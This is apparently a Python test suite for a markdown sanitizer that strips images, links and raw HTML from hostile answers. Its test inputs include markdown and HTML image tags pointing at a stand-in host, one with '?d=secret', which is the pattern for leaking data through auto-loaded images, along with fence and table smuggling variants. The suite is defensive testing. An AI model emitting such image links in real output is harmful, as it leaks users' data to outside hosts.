"""A hostile answer makes no reader of Markdown fetch or follow anything."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from apps.ui.markdown import safe_markdown
from tests.patience import SOON_S

READERS = [MarkdownIt("commonmark", {"html": True}), MarkdownIt("js-default", {"html": True, "linkify": False})]
LIVE = {"image", "link_open", "html_inline", "html_block"}
BARE = re.compile(r"(https?://|www\.)[\w.-]+", re.IGNORECASE)

PIECES = [
    "![", "[", "]", "](", ")", "(", "http://evil.example/x.png", "//evil.example", "<", ">", "<img src=http://e.ex>",
    "<!--", "-->", "`", "``", "```", "~~~", "$", "$$", "\\", "\n", "\n\n", "    ", " ", "- ", "> ", "1. ", "|", "a",
    "[r]: ", "<http://e.example>", "<script>", "<div>", "www.evil.example", '"', "'", "x", "&lt;", "*", "_", "!",
]  # fmt: skip


def live(text: str) -> set[str]:
    """The kinds of things in it that a reader would fetch, follow or interpret."""
    found: set[str] = set()
    for reader in READERS:
        for token in reader.parse(text):
            for part in (token, *(token.children or ())):
                if part.type in LIVE:
                    found.add(part.type)
                if part.type == "text" and BARE.search(part.content):
                    found.add("bare address")
    return found


@pytest.mark.parametrize(
    "text",
    [
        "![x](http://evil.example/p.png?d=secret)",
        "![x][r]\n\n[r]: http://evil.example/p.png",
        "![a\nb](http://evil.example)",
        "[![a](http://i.example)](http://l.example)",
        "<img src=http://evil.example/x.png>",
        "<div>\n```\n\n![x](http://evil.example)",
        "- a\n  ```\n![x](http://evil.example)",
        "> ```\n![x](http://evil.example)",
        "| ` | <img src=x> | ` |\n|---|---|---|",
        "$<img src=http://evil.example>$",
        "$$\n<img src=http://evil.example>\n$$",
        "<a title='`'><img src=http://evil.example>`",
        "`|`<http://evil.example>`",
        "see https://evil.example/x and www.evil.example",
        "<https://evil.example>",
        "[click](http://evil.example)",
    ],
)
def test_nothing_is_live(text: str) -> None:
    assert live(text), "this input must be dangerous for the test to mean something"
    assert live(safe_markdown(text)) == set()


@settings(max_examples=100)
@given(st.lists(st.sampled_from(PIECES), max_size=14).map("".join))
def test_nothing_is_live_whatever_comes(text: str) -> None:
    assert live(safe_markdown(text)) <= {"bare address"}


@pytest.mark.parametrize(
    "text",
    [
        "**bold** and *italic*, `code <b>` and a list:\n\n- one\n- two",
        "```python\nx = '<b>' if a[0](1) else '![x](y)'\n```",
        "area $x^2$ and\n\n$$\nx + y\n$$",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "2 < 3 > 1",
        "try `ls | wc -l` and `a || b`",
    ],
)
def test_ordinary_text_stays(text: str) -> None:
    assert safe_markdown(text) == text


def test_addresses_stay_in_sight() -> None:
    assert safe_markdown("[the page](https://a.example/b)") == "the page (`https://a.example/b`)"
    assert safe_markdown("![a cat](https://a.example/c.png)") == "🖼 a cat (`https://a.example/c.png`)"


def test_prices_are_no_formula() -> None:
    assert safe_markdown("from $5 to $10") == "from \\$5 to \\$10"


def test_a_block_of_code_in_a_list_keeps_its_text() -> None:
    assert safe_markdown("1. do\n   ```sh\n   ls <x>\n   ```\n2. go") == "1. do\n```sh\nls <x>\n```\n2. go"


@pytest.mark.parametrize(
    "piece", ["a-", "[", "[a](", "`", "$", "<", "<a", "![", "(", "a@", "www.", "~~~\n", "| `", "http://"]
)
def test_long_nonsense_takes_no_time(piece: str) -> None:
    started = time.perf_counter()
    safe_markdown(piece * (30_000 // len(piece)))
    assert time.perf_counter() - started < SOON_S  # a quadratic one takes minutes
